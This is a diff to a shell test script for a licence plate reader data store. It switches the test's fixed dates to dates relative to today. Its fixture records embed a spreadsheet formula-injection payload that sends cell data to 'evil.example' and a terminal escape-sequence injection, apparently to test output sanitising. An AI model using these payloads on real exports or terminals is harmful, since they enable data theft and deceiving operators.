@@ -8,12 +8,15 @@
 plan 10
 
 mkdeploy || { echo "Bail out! no deployment"; exit 1; }
+# four days a month back, inside the retention whatever the day
+d0=$(daysago 33) d1=$(daysago 32) d2=$(daysago 31) d3=$(daysago 30)
 {
-	read1 2026-11-02T10:00:00.00Z camA 38.58 -121.49 PARTNR1
-	read1 2026-11-02T18:40:00.00Z camC 38.61 -121.44 PARTNR1
-	read1 2026-11-05T10:00:00.00Z camN 70.0 25.0 NORTH12
-	for i in 1 2 3 4 5; do read1 2026-11-03T1$i:00:00.00Z camA 38.58 -121.49 7AB${i}123; done
-	printf '{"type":"read","v":1,"id":"20261104T100000.00Z-0123456789ab-camA","ts":"2026-11-04T10:00:00.00Z","plate":"ESC1234","conf":90,"box":[1,2,3,4],"hits":[{"list":"x","category":"=HYPERLINK(\\"http://evil.example/?\\"&A1)"},{"list":"x","category":"\\u001b]0;pwned\\u0007\\u001b[2K\\rstolen-vehicle"}]}\n'
+	read1 ${d0}T10:00:00.00Z camA 38.58 -121.49 PARTNR1
+	read1 ${d0}T18:40:00.00Z camC 38.61 -121.44 PARTNR1
+	read1 ${d3}T10:00:00.00Z camN 70.0 25.0 NORTH12
+	for i in 1 2 3 4 5; do read1 ${d1}T1$i:00:00.00Z camA 38.58 -121.49 7AB${i}123; done
+	printf '{"type":"read","v":1,"id":"%sT100000.00Z-0123456789ab-camA","ts":"%sT10:00:00.00Z","plate":"ESC1234","conf":90,"box":[1,2,3,4],"hits":[{"list":"x","category":"=HYPERLINK(\\"http://evil.example/?\\"&A1)"},{"list":"x","category":"\\u001b]0;pwned\\u0007\\u001b[2K\\rstolen-vehicle"}]}\n' \
+	    "$(echo "$d2" | tr -d -)" "$d2"
 } >"$T/r.ndjson"
 ingest "$T/r.ndjson" 2>/dev/null
 att sh -c "cat >$M/bolo.csv" <<'CSV'
@@ -43,7 +46,7 @@ svc jdoe alpr-store find -c $J -R "$R" --near 70,25 --radius 50000 >"$T/out" 2>"
 s=$?
 ok $([ $s -ne 0 ] || grep -q NORTH12 "$T/out"; echo $?) "a circle far north is searched whole, or refused (status $s)"
 like "... saying why" "$(cat "$T/err")" "this far from the equator"
-rid=20261102T100000.00Z-0123456789ab-camA/1,2
+rid=$(echo "$d0" | tr -d -)T100000.00Z-0123456789ab-camA/1,2
 svc jdoe alpr-store show $J -R "$R" "$rid" >/dev/null 2>&1
 ok $(! entries show | tail -1 | grep -q PARTNR1; echo $?) "a show's log entry holds the id asked for, not the plate read"
 done_testing
